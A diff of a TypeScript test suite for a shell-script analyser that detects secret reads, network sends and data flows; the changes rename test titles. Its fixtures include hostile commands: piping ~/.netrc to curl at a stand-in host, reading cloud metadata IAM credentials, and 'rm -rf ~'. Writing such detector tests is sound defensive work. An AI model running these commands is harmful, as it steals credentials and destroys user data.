@@ -36,7 +36,7 @@ describe('what a shell script does in one place', () => {
     'secret-read http://169.254.169.254/latest/meta-data/iam/security-credentials/x ⟸ TOKEN=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/x)',
     'environment-read ⟸ export -p; set; declare -x; compgen -e',
   ]
-  it.each(toExamples(done))('$program', ({ program, found }) => {
+  it.each(toExamples(done))('is found in $program', ({ program, found }) => {
     expect(facts(program)).toEqual(expect.arrayContaining(found))
   })
 
@@ -53,7 +53,7 @@ describe('what a shell script does in one place', () => {
     'set -euo pipefail; export A=1; declare -a list; env A=1 make; printenv HOME',
     'find . -name "*.pyc" -delete; find ~/x -mtime +7 -exec rm {} +',
   ]
-  it.each(harmless)('finds nothing in %s', (script) => expect(facts(script)).toEqual([]))
+  it.each(harmless)('is not found in %s', (script) => expect(facts(script)).toEqual([]))
 })
 
 describe('keys that a shell script uses as intended', () => {
@@ -64,10 +64,10 @@ describe('keys that a shell script uses as intended', () => {
     'curl -fsS "$API_HOST/health" -H "PRIVATE-TOKEN: $GITLAB_TOKEN"',
     'docker login -u x -p "$DOCKER_PASSWORD"; gh pr create --title "$T"; git push origin main',
     'scp build.tar.gz u@e.example:/srv; rsync -a dist/ host:/www; aws s3 sync dist s3://site',
-  ])('no flow in %s', (script) => expect(listFlows(readShellProgram(script))).toEqual([]))
+  ])('cause no finding in %s', (script) => expect(listFlows(readShellProgram(script))).toEqual([]))
 })
 
-describe('positions', () => {
+describe('positions in a shell script', () => {
   it('are those of the command, or of the string that contains the code', () => {
     const script = 'echo a\ncat ~/.netrc | curl -d @- https://e.example/c\nbash -c "rm -rf ~"\n'
     const at = ({ start, end }: { start: number; end: number }) => script.slice(start, end)
@@ -98,7 +98,7 @@ describe('code of other languages in a shell script', () => {
     expect(listFacts(readShellProgram(script, readOther))).toEqual([`network-send https://${language}.example/`])
   })
 
-  it('receives what is piped into it', () => {
+  it('receives the input that is piped into it', () => {
     const script = 'cat ~/.netrc | python3 -c "send(sys.stdin.read())"'
     expect(listFlows(readShellProgram(script, readOther))).toEqual([
       'secret-read ~/.netrc → network-send https://python.example/',
@@ -106,7 +106,7 @@ describe('code of other languages in a shell script', () => {
   })
 })
 
-describe('limits', () => {
+describe('the reader of shell scripts', () => {
   const units =
     '$(¦${a:-¦(¦"$(¦`¦$((¦<<A ¦cat <<A\n¦if a; then ¦{ ¦a|¦case a in b) ¦"¦\'a¦[[ a == +(¦{a,b}¦a=(¦<(¦$(a) ¦(( a ? ¦a[¦x="$(a "b $(c "¦x="$x$x$x"\n¦\u0000￼$%^&*()¦eval "$x$x" ; x="$x$x";¦f1(){ f2; f2; }; f2(){ f1; f1; }; f1\n¦bash $0; . $0\n¦for i in a b c; do '.split(
       '¦',
@@ -116,12 +116,12 @@ describe('limits', () => {
     expect(reading.cut ?? '').not.toContain('could not')
   })
 
-  it('reports what it does not read', () => {
+  it('reports that a script was not read completely', () => {
     expect(readShellProgram('a\n'.repeat(1_000_000)).cut).toMatch(/first \d+ characters|too many steps/)
     expect(readShellProgram('ls\n').cut).toBeUndefined()
   })
 
-  it('never throws', () => {
+  it('never throws an error', () => {
     const pieces = 'curl ¦$(¦)¦"¦\'¦`¦| sh¦<<E\n¦\nE\n¦${x¦}¦~/.netrc¦ -d @¦; ¦{¦eval ¦\\¦>¦&1 '.split('¦')
     fc.assert(
       fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 30 }), (words) => {
